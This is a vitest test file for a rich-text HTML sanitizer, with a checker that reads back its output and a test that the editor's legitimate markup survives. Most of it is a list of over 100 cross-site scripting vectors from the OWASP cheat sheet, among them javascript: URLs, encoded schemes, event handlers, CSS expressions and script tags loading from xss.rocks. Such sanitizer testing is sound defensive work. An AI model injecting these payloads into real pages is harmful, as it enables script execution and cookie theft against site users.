import { VIDEO_HOSTS, VIDEO_SANDBOX } from '@ev/shared';
// htmlparser2 comes with sanitize-html; it reads the output as a second, independent look at each element.
import { parseDocument } from 'htmlparser2';
import { describe, expect, it } from 'vitest';
import { sanitizeRichHtml } from './sanitize.ts';
import { UPLOAD_PATH } from './uploads.ts';

const ALLOWED_TAGS = new Set(
  'p div span br h1 h2 h3 h4 h5 h6 b strong u i em s strike del sub sup blockquote pre code hr ol ul li table thead tbody tfoot tr th td colgroup col caption a img figure figcaption iframe'.split(
    ' ',
  ),
);
const GLOBAL_ATTRIBUTES = ['style', 'class', 'data-se-size', 'data-se-file-name', 'data-se-file-size'];
const ALLOWED_ATTRIBUTES: Record<string, string[]> = {
  a: ['href', 'target', 'rel', 'title'],
  img: ['src', 'alt', 'width', 'height', 'title'],
  iframe: ['src', 'width', 'height', 'title', 'frameborder', 'allowfullscreen', 'sandbox', 'referrerpolicy'],
  td: ['colspan', 'rowspan'],
  th: ['colspan', 'rowspan'],
  col: ['span'],
  colgroup: ['span'],
  ol: ['start'],
};

/** What a browser ignores inside a URL's scheme: ASCII whitespace and control characters. */
const schemeOf = (url: string) => {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: stripping control characters is the point
  const squeezed = url.replace(/[\u0000-\u0020\u007f-\u009f]/g, '').toLowerCase();
  return /^([a-z][a-z0-9+.-]*):/.exec(squeezed)?.[1] ?? null;
};

/** Everything wrong with sanitized HTML, read back by parsing it. Empty when it is harmless. */
function problemsOf(html: string): string[] {
  const problems: string[] = [];
  // Parser-independent: every '<' sanitize-html wrote opens or closes an allowed tag (text is escaped).
  for (const match of html.matchAll(/<\/?([^\s/>]*)/g)) {
    if (!ALLOWED_TAGS.has(match[1]!.toLowerCase())) problems.push(`raw '<${match[1]}' in the output`);
  }
  const walk = (node: { type: string; children?: unknown[] } & Record<string, unknown>) => {
    if (node.type === 'comment' || node.type === 'directive' || node.type === 'cdata')
      problems.push(`a ${node.type} node`);
    if (node.type === 'tag' || node.type === 'script' || node.type === 'style') {
      const name = String(node.name);
      const attribs = node.attribs as Record<string, string>;
      if (!ALLOWED_TAGS.has(name)) problems.push(`tag <${name}>`);
      for (const [attribute, value] of Object.entries(attribs)) {
        if (/^on/i.test(attribute)) problems.push(`${name}[${attribute}] event handler`);
        if (![...GLOBAL_ATTRIBUTES, ...(ALLOWED_ATTRIBUTES[name] ?? [])].includes(attribute))
          problems.push(`${name}[${attribute}] not allowed`);
        if (attribute === 'href' || attribute === 'src') {
          const scheme = schemeOf(value);
          const allowed = attribute === 'src' ? ['https'] : ['http', 'https', 'mailto', 'tel'];
          if (scheme !== null && !allowed.includes(scheme)) problems.push(`${name}[${attribute}]=${value}`);
          if (scheme === null && !/^(\/uploads\/|\/(?![/\\])|#|\?)/.test(value))
            problems.push(`${name}[${attribute}]=${value} (not a same-site path)`);
        }
        if (
          attribute === 'style' &&
          /url\s*\(|expression|javascript|@import|\\|behavior|binding|\/\*|position/i.test(value)
        )
          problems.push(`${name}[style]=${value}`);
        if (attribute === 'class' && value.split(/\s+/).some((c) => !/^(__se__|se-)[\w-]+$/.test(c)))
          problems.push(`${name}[class]=${value}`);
        if (
          ['colspan', 'rowspan', 'span', 'width', 'height'].includes(attribute) &&
          !/^\d+(px|%)?$/.test(value)
        )
          problems.push(`${name}[${attribute}]=${value}`);
      }
      if (
        name === 'img' &&
        !(UPLOAD_PATH.test(attribs.src ?? '') || /^https:\/\/[^/]/.test(attribs.src ?? ''))
      )
        problems.push(`img[src]=${attribs.src}: not an upload nor https`);
      if (name === 'iframe') {
        const host = URL.parse(attribs.src ?? '')?.hostname ?? '';
        if (!(VIDEO_HOSTS as readonly string[]).includes(host)) problems.push(`iframe from '${host}'`);
        if (attribs.sandbox !== VIDEO_SANDBOX) problems.push('iframe without our sandbox');
      }
    }
    for (const child of node.children ?? []) walk(child as typeof node);
  };
  walk(parseDocument(html) as unknown as Parameters<typeof walk>[0]);
  return problems;
}

/**
 * Vectors from the OWASP XSS Filter Evasion Cheat Sheet (and relatives): case, encodings, whitespace and
 * control characters in schemes, broken markup, handlers with odd separators, CSS that runs or fetches.
 */
const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script/xss src="http://xss.rocks/xss.js"></script>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=http://xss.rocks/xss.js?< B >',
  '<SCRIPT SRC=//xss.rocks/.j>',
  '<script>alert(1)//',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=javascript:alert('XSS')>",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC= onmouseover="alert(\'xxs\')">',
  '<IMG onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<IMG SRC="javascript\u0000:alert(1)">',
  '<IMG DYNSRC="javascript:alert(\'XSS\')">',
  '<IMG LOWSRC="javascript:alert(\'XSS\')">',
  '<IMG SRC="livescript:[code]">',
  '<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="//evil.example/x.png">',
  '<img srcset="javascript:alert(1) 1x">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav&#9;ascript:alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="JAVASCRIPT:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" target="_self">x</a>',
  '<a href=javascript:alert(1)>x',
  "<BODY ONLOAD=alert('XSS')>",
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<body onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BGSOUND SRC="javascript:alert(\'XSS\');">',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<LINK REL="import" HREF="http://xss.rocks/xss.html">',
  "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  '<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029\'\\0029">',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">',
  '<p style="color: red; background: url(http://evil.example/x.png)">x</p>',
  '<p style="color: expression(alert(1))">x</p>',
  '<p style="font-family: Arial; behavior: url(xss.htc)">x</p>',
  '<p style="xss:expr/*XSS*/ession(alert(\'XSS\'))">x</p>',
  '<p style="color: rgb(1,2,3) url(x)">x</p>',
  '<p style="color: r\\65 d">x</p>',
  '<p style="font-family: \'Arial\', url(x)">x</p>',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  '<iframe src="https://evil.example/embed/x"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
  '<iframe src="https://www.youtube.com/redirect?q=https://evil.example"></iframe>',
  '<iframe src="http://www.youtube.com/embed/abc"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://www.youtube.com/embed/abc" sandbox="allow-scripts allow-top-navigation" onload="alert(1)"></iframe>',
  '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')"><TD BACKGROUND="javascript:alert(\'XSS\')">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)">',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<title><img src=x onerror=alert(1)></title>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<template><img src=x onerror=alert(1)></template>',
  '<!--<img src=x onerror=alert(1)>-->',
  "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<p title="</p><img src=x onerror=alert(1)>">x</p>',
  '<p class="x" onmouseover=alert(1)//">x</p>',
  "<div/onmouseover='alert(1)'>x</div>",
  '<div onmouseover\n=alert(1)>x</div>',
  '<div\x0conclick=alert(1)>x</div>',
  '<span style=color:red onclick="alert(1)">x</span>',
  '<img src="/uploads/../../etc/passwd">',
  '<img src="/uploads/0b0c5a3e-1c2d-4e5f-8a9b-0c1d2e3f4a5b.png" onerror="alert(1)">',
  '<img src="https://example.com/x.png" onload="alert(1)" style="width:expression(alert(1))">',
  '<a href="https://example.com" style="position:fixed;top:0;left:0;width:100%;height:100%">x</a>',
  '<td colspan="2 onmouseover=alert(1)">x</td>',
  '<p class="se-ok evil x-onclick">x</p>',
  '<h1><a href="javascript:void(0)" data-bind="alert(1)">x</a></h1>',
  '"><script>alert(document.cookie)</script>',
  '\'"--></style></script><script>alert(1)</script>',
  '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '<SCRIPT ="blah" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '<A HREF="http://66.102.7.147/">XSS</A><A HREF="h\ntt\tp://6\t6.000146.0x7.147/">XSS</A>',
];

describe('sanitizeRichHtml: known XSS vectors', () => {
  it('has enough vectors to mean something', () => {
    expect(VECTORS.length).toBeGreaterThanOrEqual(80);
  });

  it.each(VECTORS)('makes %s harmless', (vector) => {
    const output = sanitizeRichHtml(vector);
    expect(problemsOf(output), output).toEqual([]);
    // Sanitizing is a fixed point: what is stored stays what it is when saved again.
    expect(sanitizeRichHtml(output)).toBe(output);
  });

  it('drops the content of script and style, keeps the text of other dropped tags', () => {
    expect(sanitizeRichHtml('<script>alert(1)</script><style>p{}</style><p>ok</p>')).toBe('<p>ok</p>');
    expect(sanitizeRichHtml('<marquee>hello</marquee>')).toBe('hello');
    expect(sanitizeRichHtml('<p>a<!-- secret -->b</p>')).toBe('<p>ab</p>');
  });

  it('never stores a data: image', () => {
    const output = sanitizeRichHtml('<p>x<img src="data:image/png;base64,iVBORw0KGgo="></p>');
    expect(output).toBe('<p>x</p>');
  });
});

const UPLOAD = '/uploads/0b0c5a3e-1c2d-4e5f-8a9b-0c1d2e3f4a5b.png';

describe("sanitizeRichHtml: the editor's output survives", () => {
  // Written as sanitize-html writes HTML (void elements `<br />`, styles without spaces), so each case is
  // compared whole.
  const KEPT = [
    '<p style="font-family:Prompt">สวัสดี</p>',
    '<p><span style="font-family:Kanit">ก</span><span style="font-family:Sarabun">ข</span><span style="font-family:Pridi">ค</span><span style="font-family:&quot;Noto Sans Thai&quot;, sans-serif">ง</span></p>',
    '<p><span style="font-family:Arial">a</span><span style="font-family:Georgia">b</span><span style="font-family:Tahoma">c</span><span style="font-family:&quot;Trebuchet MS&quot;">d</span><span style="font-family:Verdana">e</span></p>',
    '<p><span style="font-size:24px">big</span><span style="font-size:10pt">small</span><span style="font-size:1.5em">em</span></p>',
    '<p><span style="color:#ff0000">red</span><span style="background-color:rgb(255, 255, 0)">yellow</span><span style="color:rgba(0, 0, 0, 0.5)">half</span><span style="color:hsl(120, 100%, 25%)">green</span><span style="color:navy">navy</span></p>',
    '<p><strong>b</strong><b>b</b><u>u</u><em>i</em><i>i</i><s>s</s><strike>s</strike><del>d</del><sub>2</sub><sup>3</sup></p>',
    '<h1>1</h1><h2>2</h2><h3>3</h3><h4>4</h4><h5>5</h5><h6>6</h6><div>div</div>',
    '<p style="text-align:center">c</p><p style="text-align:right">r</p><p style="text-align:justify">j</p>',
    '<p style="margin-left:25px">indent</p><p style="padding-left:50px">indent</p><p style="line-height:1.5">lh</p>',
    '<ol><li>one</li><li>two<ul style="list-style-type:circle"><li>nested</li></ul></li></ol>',
    '<hr /><blockquote>q</blockquote><pre>code</pre><p><code>x</code><br /></p>',
    '<table style="border-collapse:collapse;width:100%"><colgroup><col style="width:50%" /><col style="width:50%" /></colgroup><thead><tr><th colspan="2">Head</th></tr></thead><tbody><tr><td rowspan="2" style="border:1px solid #ccc">a</td><td>b</td></tr><tr><td>c</td></tr></tbody></table>',
    '<p><a href="https://example.com/page?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">link</a> <a href="mailto:support@example.com">mail</a> <a href="tel:+6621234567">tel</a> <a href="/privacy-polices?languages=th">path</a> <a href="#top">top</a></p>',
    `<div class="se-component se-image-container __se__float-none"><figure style="width:300px"><img src="${UPLOAD}" alt="Charger" width="300" height="200" data-se-size="300px,200px" /><figcaption>Caption</figcaption></figure></div>`,
    '<p><img src="https://images.example.com/a.jpg" alt="" /></p>',
    `<div class="se-component se-video-container"><figure style="width:100%;padding-bottom:56.25%"><iframe width="560" height="315" frameborder="0" src="https://www.youtube.com/embed/dQw4w9WgXcQ" sandbox="${VIDEO_SANDBOX}" referrerpolicy="strict-origin-when-cross-origin" allowfullscreen></iframe></figure></div>`,
    `<iframe src="https://player.vimeo.com/video/76979871" sandbox="${VIDEO_SANDBOX}" referrerpolicy="strict-origin-when-cross-origin" allowfullscreen></iframe>`,
    '<p>Thai &amp; English: ราคา &lt; 10 บาท</p>',
  ];

  it.each(KEPT)('keeps %s', (html) => {
    expect(sanitizeRichHtml(html)).toBe(html);
    expect(problemsOf(html)).toEqual([]);
  });

  it("keeps every property of a browser's style text (spacing aside)", () => {
    const output = sanitizeRichHtml(
      '<p style="font-family: &quot;Noto Sans Thai&quot;, sans-serif; font-size: 16px; color: rgb(255, 0, 0); text-align: center;">x</p>',
    );
    expect(output).toBe(
      '<p style="font-family:&quot;Noto Sans Thai&quot;, sans-serif;font-size:16px;color:rgb(255, 0, 0);text-align:center">x</p>',
    );
  });

  it('gives a YouTube iframe our sandbox, whatever it came with', () => {
    const output = sanitizeRichHtml(
      '<iframe src="https://www.youtube.com/embed/abc_-1?start=10" width="560" height="315" sandbox="allow-top-navigation allow-scripts" allow="camera" allowfullscreen></iframe>',
    );
    expect(output).toBe(
      `<iframe width="560" height="315" src="https://www.youtube.com/embed/abc_-1?start=10" sandbox="${VIDEO_SANDBOX}" referrerpolicy="strict-origin-when-cross-origin" allowfullscreen></iframe>`,
    );
  });

  it('forces rel on links opening a new tab and drops other targets', () => {
    expect(sanitizeRichHtml('<a href="https://e.co" target="_blank" rel="opener">x</a>')).toBe(
      '<a href="https://e.co" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    );
    expect(sanitizeRichHtml('<a href="https://e.co" target="_top" rel="opener">x</a>')).toBe(
      '<a href="https://e.co">x</a>',
    );
  });

  it('drops classes that are not the editor’s and style properties outside the list', () => {
    expect(sanitizeRichHtml('<p class="se-a evil __se__b" style="position:fixed;color:red">x</p>')).toBe(
      '<p class="se-a __se__b" style="color:red">x</p>',
    );
    expect(sanitizeRichHtml('<p style="font-family:Comic Sans MS">x</p>')).toBe('<p>x</p>');
  });
});

describe('the harmlessness check', () => {
  it('has teeth: it flags the vectors before sanitizing', () => {
    const unflagged = VECTORS.filter((vector) => problemsOf(vector).length === 0);
    // Only the obfuscated http link is harmless as it is (the sanitizer keeps it too).
    expect(unflagged).toEqual([VECTORS.at(-1)]);
  });
});
